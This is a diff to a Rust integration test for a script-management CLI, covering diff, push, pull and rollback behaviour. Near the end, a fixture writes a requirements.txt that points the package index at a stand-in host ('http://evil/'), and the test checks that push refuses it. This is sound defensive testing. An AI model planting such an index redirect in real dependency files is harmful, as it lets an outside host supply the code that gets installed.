@@ -20,9 +20,8 @@ async fn a_folder_is_pushed_compared_pulled_and_run_and_a_second_push_changes_no
     fs::write(report.join("script.toml"), description).expect("written");
     fs::write(report.join("report.sh"), "echo \"report for $WHO\"\n").expect("written");
     let path = folder.to_str().expect("text");
-    let compared = cli.run(&["scripts", "diff", path]).await.expect(0);
+    let compared = cli.run(&["scripts", "diff", path]).await.expect(1);
     assert!(compared.contains("create     report"), "{compared}");
-    assert!(compared.contains("nothing was changed"), "{compared}");
     let dry = cli.run(&["scripts", "push", path, "--dry-run", "--json"]).await.json();
     assert_eq!(dry["items"][0]["action"], "create");
     let listed = cli.run(&["scripts"]).await.expect(0);
@@ -39,8 +38,11 @@ async fn a_folder_is_pushed_compared_pulled_and_run_and_a_second_push_changes_no
     assert!(ran.contains("report for you"), "{ran}");
 
     fs::write(report.join("report.sh"), "echo changed\n").expect("written");
+    let compared = cli.run(&["scripts", "diff", path]).await.expect(1);
+    assert!(compared.contains("- echo \"report for $WHO\"\n+ echo changed"), "{compared}");
     let pushed = cli.run(&["scripts", "push", path, "--json"]).await.json();
     assert_eq!(pushed["items"][0]["action"], "save");
+    cli.run(&["scripts", "diff", path]).await.expect(0);
     let diff = cli.run(&["scripts", "diff", "report"]).await.expect(0);
     assert!(diff.contains("+echo changed"), "{diff}");
     let history = cli.run(&["scripts", "history", "report"]).await.expect(0);
@@ -51,6 +53,29 @@ async fn a_folder_is_pushed_compared_pulled_and_run_and_a_second_push_changes_no
     cli.run(&["scripts", "edit", "report", "--file", replaced]).await.expect(0);
     let body = cli.run(&["scripts", "show", "report", "--body"]).await.expect(0);
     assert_eq!(body, "echo edited\n");
+    // Into the working tree that it came from, where the person has it.
+    cli.run(&["scripts", "pull", path]).await.expect(0);
+    assert_eq!(fs::read_to_string(report.join("report.sh")).expect("there"), "echo edited\n");
+    assert_eq!(fs::read_dir(folder.join("ops")).expect("listed").count(), 1);
+    let again = cli.run(&["scripts", "push", path, "--json"]).await.json();
+    assert_eq!(again["items"][0]["action"], "unchanged", "{again}");
+    let evil = folder.join("evil");
+    fs::create_dir_all(&evil).expect("created");
+    fs::write(evil.join("script.toml"), "file = \"a.py\"\ninterpreter = \"python\"\n")
+        .expect("written");
+    fs::write(evil.join("a.py"), "pass\n").expect("written");
+    fs::write(evil.join("requirements.txt"), "--index-url http://evil/\n").expect("written");
+    for dry_run in [&["--dry-run"][..], &[]] {
+        let refused = cli.run(&[&["scripts", "push", path][..], dry_run].concat()).await;
+        assert_ne!(refused.code, Some(0), "{refused:?}");
+        assert!(refused.stderr.contains("`evil` is not saved"), "{refused:?}");
+        let shown = String::from_utf8_lossy(&refused.stdout).into_owned();
+        assert!(
+            shown.contains("refused    evil") && shown.contains("unchanged  report"),
+            "{shown}"
+        );
+    }
+    fs::remove_dir_all(evil).expect("removed");
     cli.run(&["scripts", "rollback", "report", "2"]).await.expect(0);
 
     let pulled = fixture.test_dir.path().join("pulled");
